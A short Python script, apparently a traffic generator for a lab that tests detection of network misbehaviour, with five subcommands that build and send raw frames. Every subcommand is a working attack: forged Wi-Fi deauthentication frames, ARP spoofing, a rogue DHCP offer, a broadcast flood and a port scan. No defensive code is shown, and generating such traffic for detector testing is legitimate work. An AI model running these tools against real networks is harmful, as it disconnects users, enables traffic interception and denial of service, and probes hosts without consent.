"""Frames of those who misbehave. Run in the namespace of whoever sends them; prints when the first one went out.

    frames.py forge INTERFACE POINT TO COUNT [REASON]  deauthentication in an access point's name; a monitor interface
    frames.py claim INTERFACE MAC ADDRESS [COUNT]      ARP: this address is at this hardware address
    frames.py offer INTERFACE MAC SERVER               DHCP: an offer of this server
    frames.py storm INTERFACE MAC RATE SECONDS         broadcasts
    frames.py knock ADDRESS COUNT                      attempts at so many ports
"""

import socket
import struct
import sys
import time

EVERYBODY = b"\xff" * 6


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def address(text):
    return socket.inet_aton(text)


def send(interface, frame, count=1, apart=0.0):
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    link.bind((interface, 0))
    print(f"{time.time():.3f}", flush=True)
    began = time.monotonic()
    for number in range(count):
        time.sleep(max(0.0, began + number * apart - time.monotonic()))
        try:
            link.send(frame)
        except OSError:  # the queue is full: what does not fit is lost
            pass


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def datagram(source, ports, payload):
    udp = struct.pack("!HHHH", *ports, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, address(source), b"\xff" * 4)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def forge(interface, point, to, count, reason="7"):
    radiotap = struct.pack("<BBHI", 0, 0, 8, 0)
    head = struct.pack("<HH", 0x00C0, 0) + mac(to) + mac(point) + mac(point) + struct.pack("<H", 0)
    send(interface, radiotap + head + struct.pack("<H", int(reason)), int(count), 0.1)


def claim(interface, whose, claimed, count="1"):
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + (mac(whose) + address(claimed)) * 2
    send(interface, EVERYBODY + mac(whose) + b"\x08\x06" + arp, int(count), 0.3)


def offer(interface, whose, server):
    boot = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, 7, 0, 0x8000, b"", address("10.9.0.9"), address(server), b"", b"", b"", b"")
    options = b"\x63\x82\x53\x63\x35\1\2\x36\4" + address(server) + b"\xff"
    send(interface, EVERYBODY + mac(whose) + b"\x08\0" + datagram(server, (67, 68), boot + options))


def storm(interface, whose, rate, seconds):
    frame = EVERYBODY + mac(whose) + b"\x08\0" + datagram("10.9.0.66", (4000, 9), b"\0" * 64)
    send(interface, frame, int(rate) * int(seconds), 1 / int(rate))


def knock(to, count):
    print(f"{time.time():.3f}", flush=True)
    for port in range(1, int(count) + 1):
        door = socket.socket()
        door.settimeout(0.2)
        door.connect_ex((to, port))
        door.close()


if __name__ == "__main__":
    {"forge": forge, "claim": claim, "offer": offer, "storm": storm, "knock": knock}[sys.argv[1]](*sys.argv[2:])
